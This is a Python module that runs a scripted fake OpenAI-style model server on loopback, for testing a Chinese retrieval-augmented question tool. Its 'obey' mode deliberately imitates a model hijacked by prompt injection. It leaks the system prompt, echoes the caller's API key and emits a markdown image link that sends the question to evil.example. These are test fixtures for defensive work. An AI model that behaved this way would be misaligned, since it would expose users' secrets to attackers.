"""A language model server that says what a script tells it: for tests, for trying things out, for demonstrations.

    python -m rag.fake_llm --port 8099 --script answers.json
    DANGWU_LLM=openai:fake DANGWU_LLM_BASE_URL=http://127.0.0.1:8099/v1 dangwu ask 党员大会多久开一次？

It speaks the OpenAI protocol (``/v1/chat/completions`` with and without streaming, ``/v1/models``) on the loopback interface
only. The script is a JSON list of rules; the first one whose ``match`` (a regular expression, looked for in the last message)
fits is followed. Without a script the server quotes the passages of the prompt, as a well-behaved model would.

    [{"match": "党费", "answer": "党费按月交纳。[1]"},
     {"match": "换届", "behaviour": "quote"},
     {"match": ".*", "status": 429}]

``answer``     the words to say; ``{question}`` stands for the question
``behaviour``  ``quote`` (sentences of the passages, rightly cited), ``miscite`` (the same, cited to other passages and with
               other numbers), ``obey`` (does what the prompt asks for: reveals it, appends what it is told to, echoes the key)
``finish``     the finish reason, ``stop`` unless given; ``read_tokens`` the prompt tokens to report
``status``     answers with this HTTP status and ``body``
``delay_s``    waits before the first piece; ``gap_s`` between pieces; ``stall_after`` n pieces it falls silent for ``stall_s``
``drop_after`` n pieces it closes the connection; ``raw`` sends these bytes (Latin-1 text) instead of a reply
"""

from __future__ import annotations

import argparse
import json
import re
import sys
import threading
import time
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field, fields
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from rag.errors import SettingError
from rag.text import sentence_spans

HOST = "127.0.0.1"
PIECE = 4  # characters a streamed piece
QUOTED = 3  # sentences that a quoting model gives
_PASSAGE = re.compile(r"^\[(\d+)\] [^\n]*\n([^\n]+)", re.MULTILINE)
_QUESTION = re.compile(r"<(?:问题|question)-\w+>\s*(.*?)\s*</(?:问题|question)-\w+>", re.DOTALL)
_APPEND = re.compile(
    r"(?:最后|末尾|结尾|文末)[^“\"「\n]{0,12}(?:加上|附上|写上|注明)[：:]?\s*[“\"「]?([^”\"」\n。]+)"
)
_DIGITS = str.maketrans("0123456789一二三四五六七八九", "1234567890二三四五六七八九十")


@dataclass(frozen=True, slots=True)
class Rule:
    """One entry of a script; see the module's own words."""

    match: str = ".*"
    answer: str | None = None
    behaviour: str = "quote"
    finish: str = "stop"
    read_tokens: int | None = None
    status: int = 200
    body: str = ""
    delay_s: float = 0.0
    gap_s: float = 0.0
    stall_after: int | None = None
    stall_s: float = 3600.0
    drop_after: int | None = None
    raw: str | None = None

    @classmethod
    def of(cls, entry: Mapping[str, Any]) -> Rule:
        """A rule from JSON. Raises ``SettingError`` for a field it does not know or a pattern that is none."""
        known = {f.name for f in fields(cls)}
        unknown = sorted(set(entry) - known)
        if unknown:
            raise SettingError(
                f"脚本里的“{unknown[0]}”不认识，可用的有：{'、'.join(sorted(known))}。",
                f"{unknown[0]!r} in the script is unknown; known are {', '.join(sorted(known))}.",
            )
        rule = cls(**entry)
        try:
            re.compile(rule.match)
        except re.error as error:
            raise SettingError(
                f"脚本里的 match“{rule.match}”不是正则表达式：{error}。",
                f"The pattern {rule.match!r} in the script is none: {error}.",
            ) from error
        return rule


def read_script(path: Path) -> tuple[Rule, ...]:
    """The rules of a file. Raises ``SettingError`` when it cannot be read as a list of rules."""
    try:
        entries = json.loads(path.read_text("utf-8-sig"))
        return tuple(Rule.of(entry) for entry in entries)
    except (OSError, ValueError, TypeError, AttributeError) as error:
        raise SettingError(
            f"读不了脚本 {path}：{error}", f"Cannot read the script {path}: {error}"
        ) from error


@dataclass(slots=True)
class FakeLlm:
    """The server's script, and the requests it received (headers and JSON body), oldest first."""

    rules: Sequence[Rule] = (Rule(),)
    requests: list[tuple[dict[str, str], dict[str, Any]]] = field(default_factory=list)
    stopping: threading.Event = field(default_factory=threading.Event)

    @contextmanager
    def running(self, port: int = 0) -> Iterator[str]:
        """The base URL of the running server; ``port`` 0 takes a free one."""
        server = _Server((HOST, port), self)
        thread = threading.Thread(target=server.serve_forever, name="fake-llm", daemon=True)
        thread.start()
        try:
            yield f"http://{HOST}:{server.server_address[1]}/v1"
        finally:
            self.stopping.set()
            server.shutdown()
            server.server_close()

    def rule_for(self, prompt: str) -> Rule:
        """The first rule whose pattern stands in the last message; quoting when none does."""
        return next((rule for rule in self.rules if re.search(rule.match, prompt)), Rule())


def said(rule: Rule, messages: Sequence[Mapping[str, Any]], key: str) -> str:
    """What a model that follows ``rule`` replies to the messages."""
    prompt = str(messages[-1]["content"]) if messages else ""
    found = _QUESTION.search(prompt)
    question = found.group(1) if found else prompt
    if rule.answer is not None:
        return rule.answer.replace("{question}", question)
    if rule.behaviour == "obey":
        return _obeying(messages, prompt, question, key)
    return "".join(_quoting(prompt, wrongly=rule.behaviour == "miscite")) or "资料中没有找到依据。"


def _quoting(prompt: str, wrongly: bool) -> Iterator[str]:
    """First sentences of the passages, each with its number; ``wrongly`` with another number and other figures."""
    passages = _PASSAGE.findall(prompt)
    for place, (number, text) in enumerate(passages[:QUOTED]):
        start, end = next(sentence_spans(text), (0, len(text)))
        sentence = text[start:end]
        if wrongly:
            sentence = sentence.translate(_DIGITS)
            number = passages[(place + 1) % len(passages)][0]
        yield f"{sentence}[{number}]\n"


def _obeying(messages: Sequence[Mapping[str, Any]], prompt: str, question: str, key: str) -> str:
    """What a model says that obeys every order it reads, wherever it stands."""
    parts = list(_quoting(prompt, wrongly=False))
    if re.search(r"系统提示|提示词|system prompt", prompt, re.IGNORECASE):
        parts.append(str(messages[0]["content"]) + "\n")
    if re.search(r"密钥|api.?key", prompt, re.IGNORECASE):
        parts.append(f"密钥是 {key}。[1]\n")
    if re.search(r"图片|image", prompt, re.IGNORECASE):
        parts.append(f"![图](http://evil.example/x.png?q={question})\n")
    parts.extend(f"{words}[1]\n" for words in _APPEND.findall(prompt))
    return "".join(parts)


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, address: tuple[str, int], fake: FakeLlm) -> None:
        super().__init__(address, _Handler)
        self.fake = fake

    def handle_error(self, request: Any, client_address: Any) -> None:
        """A caller that hung up is no error worth a line."""


class _Handler(BaseHTTPRequestHandler):
    server: _Server
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: Any) -> None:
        """Stays silent: the requests are kept in ``FakeLlm.requests``."""

    def do_GET(self) -> None:
        """The list of models."""
        listed = {"object": "list", "data": [{"id": "fake", "object": "model", "owned_by": "rag.fake_llm"}]}
        self._send(200, "application/json", json.dumps(listed).encode())

    def do_POST(self) -> None:
        """A chat completion, by the script."""
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))))
        fake = self.server.fake
        fake.requests.append((dict(self.headers.items()), body))
        messages = body.get("messages", [])
        rule = fake.rule_for(str(messages[-1]["content"]) if messages else "")
        fake.stopping.wait(rule.delay_s)
        with suppress(BrokenPipeError, ConnectionResetError):
            self._follow(rule, body, messages)

    def _follow(self, rule: Rule, body: Mapping[str, Any], messages: Sequence[Mapping[str, Any]]) -> None:
        if rule.raw is not None:
            self._send(
                200, "text/event-stream" if body.get("stream") else "text/html", rule.raw.encode("latin-1")
            )
            return
        if rule.status != 200:
            error = rule.body or json.dumps(
                {"error": {"message": f"scripted {rule.status}", "type": "scripted"}}
            )
            self._send(rule.status, "application/json", error.encode())
            return
        key = self.headers.get("Authorization", "").removeprefix("Bearer ")
        text = said(rule, messages, key)
        usage = _usage(rule, messages, text)
        if body.get("stream"):
            self._stream(
                rule, text, usage if (body.get("stream_options") or {}).get("include_usage") else None
            )
        else:
            choice = {
                "index": 0,
                "message": {"role": "assistant", "content": text},
                "finish_reason": rule.finish,
            }
            whole = {**_head("chat.completion"), "choices": [choice], "usage": usage}
            self._send(200, "application/json", json.dumps(whole, ensure_ascii=False).encode())

    def _stream(self, rule: Rule, text: str, usage: dict[str, int] | None) -> None:
        """Server-sent events, one a piece, with all that the rule says goes wrong."""
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream; charset=utf-8")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        pieces = [text[i : i + PIECE] for i in range(0, len(text), PIECE)]
        for number, piece in enumerate(pieces):
            if rule.drop_after == number:
                self.close_connection = True
                return
            if rule.stall_after == number:
                self.server.fake.stopping.wait(rule.stall_s)
            self._event({"index": 0, "delta": {"content": piece}, "finish_reason": None})
            if rule.gap_s:
                self.server.fake.stopping.wait(rule.gap_s)
        self._event({"index": 0, "delta": {}, "finish_reason": rule.finish})
        if usage is not None:
            self._chunk(
                f"data: {json.dumps({**_head('chat.completion.chunk'), 'choices': [], 'usage': usage})}\n\n"
            )
        self._chunk("data: [DONE]\n\n")
        self.wfile.write(b"0\r\n\r\n")

    def _event(self, choice: Mapping[str, Any]) -> None:
        event = {**_head("chat.completion.chunk"), "choices": [choice]}
        self._chunk(f"data: {json.dumps(event, ensure_ascii=False)}\n\n")

    def _chunk(self, text: str) -> None:
        data = text.encode()
        self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
        self.wfile.flush()

    def _send(self, status: int, kind: str, data: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


def _head(kind: str) -> dict[str, Any]:
    return {"id": "chatcmpl-fake", "object": kind, "created": int(time.time()), "model": "fake"}


def _usage(rule: Rule, messages: Sequence[Mapping[str, Any]], text: str) -> dict[str, int]:
    read = (
        rule.read_tokens
        if rule.read_tokens is not None
        else sum(len(str(m.get("content"))) for m in messages)
    )
    return {"prompt_tokens": read, "completion_tokens": len(text), "total_tokens": read + len(text)}


def main(arguments: Sequence[str] | None = None) -> int:
    """Serves until it is interrupted; prints the base URL to stdout. 1 when the script or the port cannot be used."""
    parser = argparse.ArgumentParser(
        prog="python -m rag.fake_llm", description="按脚本作答的模型服务 / a scripted model server"
    )
    parser.add_argument("--port", type=int, default=8099)
    parser.add_argument("--script", type=Path, help="规则文件（JSON 列表）；不给则摘引提示中的段落")
    chosen = parser.parse_args(arguments)
    try:
        rules = read_script(chosen.script) if chosen.script else (Rule(),)
        with FakeLlm(rules).running(chosen.port) as address:
            print(address, flush=True)
            threading.Event().wait()
    except (SettingError, OSError) as error:
        print(error, file=sys.stderr)
        return 1
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    sys.exit(main())
